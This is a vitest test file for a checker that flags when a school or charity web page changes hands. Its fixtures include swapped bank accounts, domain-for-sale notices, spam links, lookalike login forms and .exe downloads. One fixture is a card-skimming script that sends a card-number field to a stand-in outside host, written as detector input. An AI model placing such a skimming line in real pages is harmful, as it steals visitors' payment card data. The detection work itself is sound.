import { describe, expect, it } from "vitest";
import { judgeLook } from "./judge-look.ts";
import type { PagePicture } from "./page-picture.ts";
import { type PageFacts, readPage } from "./read-page.ts";
import { toPagePicture } from "./take-picture.ts";
import { answerWith } from "./testing/answer-with.ts";

const address = "https://www.path-finder.org/guide";
const page = (title: string, body: string) =>
  readPage(`<title>${title}</title><h1>${title}</h1>${body}`, address);
const lessons =
  "<p>Lessons on rivers, bridges and maps for students, with worksheets about fractions, volcanoes and sails.</p>";

function judgeAnswer(now: PageFacts, approved?: PagePicture) {
  const promise = {
    url: address,
    name: "Path Finder",
    description: "Lessons.",
    ...(approved ? { approved } : {}),
  };
  return judgeLook(answerWith(now, address), promise, "2026-11-02").verdict;
}

describe("a school's or a charity's page that was made anew is asked about, and not taken away", () => {
  const before = toPagePicture(address, address, page("Path Finder", lessons), "2026-11-01");
  const menu = "<a href=/a>Lending</a><a href=/b>Buses</a><a href=/c>Kitchen</a><a href=/d>Garden</a>";
  const shows = (body: string, head = "") =>
    judgeAnswer(
      readPage(`${head}<title>Path Finder: new</title><h1>Path Finder</h1>${menu}${body}`, address),
      before,
    );
  const card = "<input name=cardnumber><input name=cvc>";
  const prices = "<p>A coat for £10.00</p><p>A week for £25.00</p>";

  it.each([
    ["takes gifts by card", `${prices}<form action=/give>${card}</form>`],
    [
      "takes gifts where payments are taken",
      `${prices}<form action=https://checkout.stripe.com/pay>${card}</form>`,
    ],
    [
      "has its script ask for a token there",
      `${prices}<form>${card}</form><script>const d=cardnumber.value;fetch("https://api.stripe.com/v1/tokens?"+d)</script>`,
    ],
    [
      "leads to a vendor's antivirus",
      "<p>Antivirus is free for all who study here.</p><a href=https://download.there.club/setup.exe>Windows</a>",
    ],
    [
      "has its own program downloaded",
      "<p>Draw circles, and drag a corner.</p><a download href=https://files.there.club/draw-setup.exe>Windows</a>",
    ],
    ["auctions for its library", `${prices}<a href=https://bids.there.club/auction/path-finder.org>Bid</a>`],
    [
      "plays in a hall that is called a casino",
      `${prices}<a href=https://www.stadtcasino-basel.ch/>The hall</a>`,
    ],
    [
      "prints and binds what others wrote",
      `${prices}<p>We take it from there: your thesis in hardcover, ready to submit, confidential, prices per page.</p><button>Get a quote</button>`,
    ],
  ])("%s", (_, body) => {
    expect(["ok", "looks-different", "off-topic"]).toContain(shows(body));
  });

  it("shows films for grown-ups, or teaches them", () => {
    const told =
      "<p>Evening classes for students at the college: pottery, bread, basic maths. Our teachers are kind.</p>";
    expect(
      shows("<p>Varda and De Sica on eight evenings.</p>", '<meta name="rating" content="mature">'),
    ).toBe("looks-different");
    expect(shows(told, '<meta name="rating" content="adult">')).toBe("looks-different");
  });

  it("is a door to someone's program, which may ask for as much as an enrolment does", () => {
    const door = (more: string) =>
      judgeAnswer(
        readPage(
          `<title>Path Finder</title><h1>Path Finder</h1><p>Parents sign in here to see meals, buses and letters.</p><form action=https://in.there.club/login><input name=u><input type=password name=p>${more}</form>`,
          address,
        ),
        before,
      );
    expect(door("")).not.toBe("changed-hands");
    expect(door("<input name=tel><input name=birthday>")).not.toBe("changed-hands");
  });
});

it("a page as it was is fine where a script sends a search or an address for a newsletter, and not a card", () => {
  const form = "<form action=/give><input name=cardnumber><input name=cvc></form>";
  const give = (script: string) => page("Path Finder: give", `${form}${lessons}<script>${script}</script>`);
  const before = toPagePicture(address, address, give(""), "2026-11-01");
  const send = (what: string) => `const d=${what}.value;fetch("https://letters.there.club/?"+d)`;
  expect(judgeAnswer(give(send("nlmail")), before)).toBe("ok");
  expect(judgeAnswer(give(send("search")), before)).toBe("ok");
  expect(judgeAnswer(give(send("cardnumber")), before)).toBe("off-topic");
});

it("a school's page that nobody has seen may lead to a report on its own name", () => {
  const report = '<a href="https://reports.there.club/gui/domain/path-finder.org">Checked</a>';
  expect(judgeAnswer(page("Path Finder", lessons + report))).toBe("ok");
});

describe("where visitors are to pay", () => {
  const gifts = (payee: string, more = "") => page("Path Finder", `${lessons}<p>Gifts: ${payee}.</p>${more}`);
  const shows = (then: string, now: string, more?: string) =>
    judgeAnswer(gifts(now, more), toPagePicture(address, address, gifts(then), "2026-11-01"));
  const national = "Unity Trust Bank, sort code 60-83-01, account 20418873";
  const rows = (...cells: string[]) => `<table><tr><td>${cells.join("</td><td>")}</td></tr></table>`;
  const iban = "DE89 3704 0044 0532 0130 00";

  it.each([
    ["a national account", national, "Swiftpay, sort code 04-29-77, account 71190462"],
    ["an international one", iban, "GB29 NWBK 6016 1331 9268 19"],
    [
      "with what often follows one",
      "IBAN AT61 1904 3002 3457 3201 BIC BKAUATWW",
      "IBAN NL91 ABNA 0417 1643 00 BIC ABNANL2A",
    ],
    ["one for a purse of coins", national, `bitcoin bc1q${"x7".repeat(19)}`],
    [
      "with fixed spaces",
      iban.replaceAll(" ", "&nbsp;"),
      "IBAN GB29&nbsp;NWBK&nbsp;6016&nbsp;1331&nbsp;9268&nbsp;19",
    ],
    [
      "in groups of its country",
      "IBAN IT 60 X 05428 11101 000000123456",
      "IBAN FR76 30006 00001 12345678901 89",
    ],
    ["in a table", rows("Account number", "1234 5678"), rows("Account number", "7119 0462")],
    ["in one word", "Spendenkonto 20418873", "Spendenkonto: 71190462"],
    ["in tags of their own", "<b>Account number:</b> <i>20418873</i>", "Account&nbsp;#:&nbsp;71190462"],
    ["over two lines", "Account<br>number<br>20418873", "IBAN FR76 3000<br>6000 0112 3456 7890 189"],
    ["behind a dash, or in short", "Account number – 20418873", "Acc. no. 71190462"],
    ["with its groups of digits", "Kontonr. 8601.11.17947", "Numéro de compte : 12345678901"],
    ["in other languages", "číslo účtu: 19-2000145399/0800", "账号：6222020200112233445"],
    ["of a further country", "KZ86125KZT5004100100", "AD12 0001 2030 2003 5910 0100"],
    [
      "beside an office's telephone",
      "Student account 614 292 0300. Account no. 20418873",
      "Student account 614 292 0300. Account no. 71190462",
    ],
  ])("asks when all accounts are others: %s", (_, then, now) => {
    expect(shows(then, now)).toBe("off-topic");
  });

  it.each([
    ["the same, written otherwise", iban, "IBAN DE89370400440532013000, thank you"],
    ["the same with hyphens", "account 20418873", "account no. 2041-8873"],
    ["the same without its bank", "AT61 1904 3002 3457 3201 BIC BKAUATWW", "AT61 1904 3002 3457 3201 bank"],
    ["one more", national, `${national} or ${iban}`],
    ["the first", "by cheque", national],
    ["none any more", national, "by cheque"],
    ["years of an account", "our account of 2023-2024", "our account of 2024-2025"],
    ["days to open one", "Create an account before 30-11-2026", "Create an account before 30-11-2027"],
    [
      "telephones",
      "Questions about your account? 800-555-0199",
      "Questions about your account? 800-555-0142",
    ],
    ["a student", "Log into your account, student 20231234", "Log into your account, student 20249876"],
    ["books", "A short account. ISBN 978-0-19-953900-2", "A short account. ISBN 978-0-14-044118-5"],
    ["telephones in France", "Mon compte 01 45 67 89 00", "Mon compte 01 45 67 89 11"],
    ["telephones that cost nothing", "Fragen zum Konto 0800 1234567", "Fragen zum Konto 0800 7654321"],
    [
      "years of a statement",
      "a statement of account 2023 2024 2025",
      "a statement of account 2024 2025 2026",
    ],
    ["days with dots", "Open your account 30.11.2026", "Open your account 30.11.2027"],
    ["words that check like an account", "il 20 settembre alla domanda", national],
    ["long words", "Telekommunikationsdienstleistungen", "Tierversuchsgenehmigungsverfahren"],
    ["what follows it", "AT61 1904 3002 3457 3201 from 2025", "AT61 1904 3002 3457 3201 from 2026"],
    ["what is not an account", "form AB12 2024 2025 2026", "form AB12 2025 2026 2027"],
  ])("asks about nothing: %s", (_, then, now) => {
    expect(shows(then, now)).toBe("ok");
  });
});

it("papers and links for sale are no lesson in the frame of a school, and a warning of them is", () => {
  const menu = "<a href=/a>Time</a><a href=/b>Reading</a><a href=/c>Writing</a><a href=/d>Exams</a>";
  const framed = (text: string) => page("Study skills", `${menu}<p>${text}</p>`);
  const before = toPagePicture(address, address, framed(lessons), "2026-11-01");
  const papers = `Still by students. Share your brief and a verified graduate sends the finished assignment, from $9 a
    page or your money back. Your professor sees only your name. Essays and lab reports for students.`;
  const links =
    "We accept guest posts and link insertions with do-follow links, for students of all schools.";
  const warning = `Students ask us about sites that say "share your brief" and sell a finished assignment from $9 a page.
    This is contract cheating: talk to your tutor, and write it yourself.`;
  expect(judgeAnswer(framed(papers), before)).toBe("off-topic");
  expect(judgeAnswer(framed(links), before)).toBe("off-topic");
  expect(judgeAnswer(framed(warning), before)).not.toMatch(/off-topic|changed-hands/);
});

it("a name is for sale where its text says so of it, though its heading says so of a name only", () => {
  const sale = `<p>دامنه <b>path-finder.org</b> به بالاترین پیشنهاد واگذار می‌شود.</p><p>دامنه‌های دیگر: آموزش، مدرسه</p>`;
  const before = toPagePicture(address, address, page("Path Finder", lessons), "2026-11-01");
  expect(judgeAnswer(page("این دامنه به فروش می‌رسد", sale), before)).toBe("changed-hands");
});

it("an empty app is asked about where its state is a bookmaker's, and not where it is a school's", () => {
  const before = toPagePicture(address, address, page("Path Finder", lessons), "2026-11-01");
  const app = (...texts: string[]) =>
    judgeAnswer(
      readPage(`<title>Path Finder</title><script>s=${JSON.stringify(texts)}</script>`, address),
      before,
    );
  expect(app("Online casino with free spins", "Sports betting", "Slot games")).toBe("off-topic");
  expect(app("Lessons on maps", "Worksheets", "Rivers")).toBe("ok");
});

it("an address that led elsewhere and now leads nowhere is asked about, such as a code that was switched off", () => {
  const to = "https://www.elsewhere.org/guide";
  const before = toPagePicture(address, to, page("Families", lessons), "2026-11-01");
  const off = page("This code is paused", "<p>The plan behind this code has ended, so scans are off.</p>");
  expect(judgeAnswer(off, before)).toBe("looks-different");
});

it("a kept page is asked about where its menu and posts sell for several trades, and not where they teach or help", () => {
  const before = toPagePicture(address, address, page("Path Finder", lessons), "2026-11-01");
  const posts = (...titles: string[]) =>
    page("Path Finder", lessons + titles.map((one) => `<p><a href=/${one.length}>${one}</a>`).join(""));
  expect(judgeAnswer(posts("Best CBD gummies", "Non GamStop casinos", "Hire a roofer"), before)).toBe(
    "off-topic",
  );
  expect(judgeAnswer(posts("Best CBD gummies", "Hire a roofer"), before)).toBe("ok");
  expect(judgeAnswer(posts("CBD gummies: a lesson", "Non GamStop casinos: get help"), before)).toBe("ok");
  const [geography, asked] = [
    posts("Natural hazards", "Drainage basins"),
    posts("Best CBD gummies", "Hire a roofer"),
  ];
  for (const kept of [geography, asked])
    expect(judgeAnswer(kept, toPagePicture(address, address, kept, "2026-11-01"))).toBe("ok");
});

it("a page that nobody has approved is asked about if it sells links beside the titles of traders, and not for either alone", () => {
  const blog = (footer: string, ...titles: string[]) =>
    judgeAnswer(
      page("Homework Haven", `${lessons}<ul><li>${titles.join("<li>")}</ul><p>${footer}`),
      undefined,
    );
  expect(blog("Sponsored posts accepted", "Best Non GamStop casinos", "Instant loans")).toBe("off-topic");
  expect(blog("Dofollow, $80 per link", "Crypto casino sites")).toBe("off-topic");
  expect(blog("Adverts are labelled", "Best Non GamStop casinos", "Buy CBD oil")).toBe("ok");
  expect(blog("Sponsored posts are labelled", "Sports betting banned near fields")).toBe("ok");
  expect(blog("Sponsored posts accepted", "Online casinos: a lesson", "CBD oil: get help")).toBe("ok");
});
